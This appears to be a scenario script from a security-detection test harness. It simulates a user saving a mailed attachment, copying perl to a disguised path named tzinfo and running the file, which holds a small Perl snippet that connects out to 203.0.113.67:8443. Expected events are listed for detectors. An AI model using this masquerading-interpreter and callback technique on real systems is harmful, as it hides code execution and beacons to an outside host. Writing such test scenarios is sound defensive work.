# The client reads back what it wrote; the interpreter is a copy under another name, and takes the attachment from standard input.
title="Perl under another name reads a saved attachment from standard input"
what="hanna saves statement.dat from neomutt, copies perl to ~/.local/libexec/tzinfo and feeds it the file. It connects to 203.0.113.67:8443."
user=hanna daemons="cron sshd"
people="hanna tobi ines marek jule"
aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'

setup() {
  printf 'use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr=>"203.0.113.67:8443") or die;\nprint $s "hi\\n"; sleep 1;\n' > "$base/out/statement.dat"
  printf 'set folder=~/Maildir\nset spoolfile=~/Maildir\nset mbox_type=Maildir\nset sleep_time=0\nset move=no\nset wait_key=no\n' | own_file /home/hanna/.neomuttrc
}
act() {
  small_talk 1
  mail_in --from billing@example.com --to hanna@example.org --subject "Statement" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/statement.dat:application/octet-stream:statement.dat"
  wait_mail hanna 1
  ssh_as hanna <<'L'
%saves neomutt
ls
mkdir -p .local/libexec; cp /usr/bin/perl .local/libexec/tzinfo
.local/libexec/tzinfo < statement.dat
L
}
truth() {
  mail_step deliver 'to=<hanna@example.org>.*status=sent' 'the message is delivered'
  file_step save 'neomutt link .*CREATE (\./|/home/hanna/)*statement.dat' 'its attachment is saved'
  exec_step execute 'tzinfo .local/libexec/tzinfo' 'the copy of perl runs it'
  net_step beacon 'tzinfo 203.0.113.67:8443' 'it connects'
}
